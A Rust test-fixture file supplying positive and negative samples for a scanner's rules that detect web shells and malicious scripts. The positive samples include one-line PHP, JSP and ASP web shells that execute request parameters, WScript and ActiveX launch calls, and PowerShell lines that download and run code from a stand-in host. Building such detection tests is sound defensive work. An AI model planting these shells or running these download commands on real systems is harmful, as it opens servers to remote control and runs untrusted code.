//! Samples of the rules for web shells and scripts: the shape of each, in pieces that have nothing to
//! run on and nowhere to reach.

use super::{RuleSamples, files};
use crate::fixtures::{FixtureError, WEB_SHELL, jpeg, texts};

pub(super) fn rules() -> Result<Vec<RuleSamples>, FixtureError> {
    let photo = jpeg::plain()?;
    let in_photo = |body: &[u8]| jpeg::with_segment(&photo, jpeg::COMMENT, body);
    Ok(vec![
        (
            "php_web_shell",
            files(&[
                "<?php @eval($_POST['c']); ?>",
                "<?php $x = `$_GET[c]`; ?>",
                "<?=$_GET['f']($_GET['a'])?>",
            ]),
            vec![
                b"<?php echo htmlspecialchars($_GET['name']); ?>".to_vec(),
                b"eval($_POST['c'])".to_vec(),
                in_photo(WEB_SHELL)?,
            ],
        ),
        (
            "jsp_web_shell",
            files(&[
                "<%@ page import=\"java.util.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
                "<% new ProcessBuilder(request.getParameter(\"c\")).start(); %>",
            ]),
            files(&[
                "<%= request.getParameter(\"name\") %>",
                "Runtime.getRuntime().exec(\"date\")",
            ]),
        ),
        (
            "asp_web_shell",
            files(&[
                "<%eval request(\"c\")%>",
                "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"c\"],\"unsafe\");%>",
                "<%@ Page Language=\"C#\"%><% Process.Start(Request[\"c\"]); %>",
            ]),
            vec![
                b"<%@ Page Language=\"C#\"%><%= Request[\"name\"] %>".to_vec(),
                b"please eval request(c)".to_vec(),
                in_photo(b"<%eval request(\"c\")%>")?,
            ],
        ),
        (
            "windows_script",
            files(&[
                "CreateObject(\"WScript.Shell\").Run \"calc\"",
                "var s = new ActiveXObject('Shell.Application'); s.ShellExecute('calc');",
            ]),
            files(&["CreateObject(\"WScript.Shell\")", "I Run (5 km) each day.", texts::PAGE]),
        ),
        (
            "powershell_download",
            files(&[
                "iex (New-Object Net.WebClient).DownloadString('https://evil.example/a')",
                "powershell -nop -enc QQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEA",
                "Invoke-WebRequest https://evil.example/a -OutFile a; Start-Process a",
            ]),
            files(&[
                "powershell -version",
                "Invoke-WebRequest は使っていません",
                "PowerShell の画面が出て驚きました。-e と書いてありました。",
            ]),
        ),
        (
            "html_application",
            files(&["<html><HTA:APPLICATION id=\"a\"></html>"]),
            files(&[texts::PAGE, "hta:application とは何ですか"]),
        ),
    ])
}
